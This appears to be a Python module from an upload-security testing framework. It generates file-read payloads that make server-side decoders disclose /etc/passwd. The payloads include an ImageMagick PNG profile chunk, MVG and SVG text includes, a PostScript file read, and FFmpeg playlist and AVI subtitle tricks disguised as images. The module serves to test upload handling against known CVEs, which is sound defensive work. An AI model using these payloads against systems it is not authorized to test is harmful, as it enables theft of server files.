r"""Bytes that make their decoder read a file of the server's.

What it does
    Uploads, under the names of pictures and documents, what decoders are known to have followed
    to a file: a profile that is named by its path, a drawing that shows a text file, a play
    list, PostScript, a formula, an include. Then it looks for the first line of
    ``/etc/passwd`` in what is served, unpacked and out of hexadecimal.

Why it works
    The decoder runs with the rights of the program, and a name of a file is all it takes. The
    redrawn picture carries the file away: ImageMagick wrote it as a profile into the PNG that
    it made, and a converter of films drew it, line by line.

Expected defence
    A decoder that can open nothing but the descriptor that it was given, and no format that
    names other files.

References
    - CWE-22, CWE-552, CWE-653
    - OWASP ASVS v5.0.0-15.2.5, v5.0.0-5.2.2; WSTG-BUSL-09
    - CVE-2022-44268 (ImageMagick), CVE-2016-3717, CVE-2016-1897 (FFmpeg)
"""

from __future__ import annotations

from hypothesis import strategies as st

from attacks.model import (
    GENERATED,
    Attack,
    Body,
    Capability,
    Demand,
    Probe,
    Profile,
    SentFile,
    Severity,
)
from attacks.oracles.files_unread import files_unread
from attacks.strategies.images import png_chunk, png_with
from attacks.strategies.typed import IMAGES, drawn, holding, honest_each, of_types
from attacks.uploads import upload

PATHS = (b"/etc/passwd", b"../../../../../../../../etc/passwd", b"file:///etc/passwd")
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink">'


def _profiled(path: bytes) -> bytes:
    return png_with(png_chunk(b"tEXt", b"profile\0" + path))


def _followed(path: bytes) -> dict[str, bytes]:
    """Return what makes each decoder read *path*."""
    return {
        "drawing-of-text": b"push graphic-context\nviewbox 0 0 640 480\n"
        b"image over 0,0 0,0 'label:@%s'\npop graphic-context\n" % path,
        "drawing-link": SVG + b'<image l:href="text:%s"/></svg>' % path,
        "postscript": b"%%!PS\n(%s) (r) file 1024 string readstring pop show showpage\n" % path,
        "play-list": b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nconcat:file://%s\n" % path,
        "subtitles": b"RIFF\xff\0\0\0AVI LIST\0\0\0\0GAB2\0\x02\0#EXTM3U\n#EXTINF:1,\n%s\n" % path,
    }


OWN = {"svg": "drawing-link", "mvg": "drawing-of-text", "eps": "postscript", "m3u8": "play-list"}


def seeds(profile: Profile) -> tuple[Probe, ...]:
    """Return the profile in a PNG, then the rest under a picture's name, then under its own."""
    profiles = (
        holding(profile, sample, _profiled(path), variant=f"profile-{n}", demand=Demand.EITHER)
        for sample in of_types(profile, "png")
        for n, path in enumerate(PATHS)
    )
    disguised = (
        holding(profile, sample, content, variant=f"{name}-as-{sample.extension}")
        for sample in of_types(profile, *IMAGES)[:1]
        for name, content in _followed(PATHS[0]).items()
    )
    return (*profiles, *disguised, *(_own(profile, extension) for extension in OWN))


def _own(profile: Profile, extension: str) -> Probe:
    file = SentFile(
        filename=f"followed.{extension}".encode(),
        content=Body((_followed(PATHS[0])[OWN[extension]],)),
        media_type=b"application/octet-stream",
    )
    return Probe(steps=(upload(profile, file),), variant=f"own-{extension}")


def probes(profile: Profile) -> st.SearchStrategy[Probe]:
    """Draw a path, where a profile names it, and what a picture begins with."""
    if not of_types(profile, *IMAGES):
        own = st.sampled_from([_own(profile, extension) for extension in OWN])
        return own.map(lambda probe: Probe(steps=probe.steps, variant=GENERATED))
    keys = st.sampled_from((b"profile", b"Raw profile type iptc", b"XML:com.adobe.xmp", b"Profile"))
    named = st.builds(
        lambda key, path: png_with(png_chunk(b"tEXt", key + b"\0" + path)),
        keys,
        st.sampled_from(PATHS),
    )
    fronts = st.sampled_from((b"", b"\n", b"\x89PNG\r\n\x1a\n", b"GIF89a"))
    followed = st.sampled_from(PATHS).flatmap(lambda p: st.sampled_from([*_followed(p).values()]))
    return drawn(profile, IMAGES, named | st.builds(bytes.__add__, fronts, followed))


ATTACK = Attack(
    id="content.file-read",
    title="Bytes that make their decoder read a file of the server's",
    severity=Severity.CRITICAL,
    controls=("sandboxed-processing",),
    cwe=(22, 552, 653),
    asvs=("v5.0.0-15.2.5", "v5.0.0-5.2.2"),
    wstg=("WSTG-BUSL-09",),
    oracles=(files_unread,),
    seeds=seeds,
    probes=probes,
    neighbours=lambda profile: honest_each(profile, *IMAGES),
    needs=frozenset({Capability.RETRIEVE}),
)
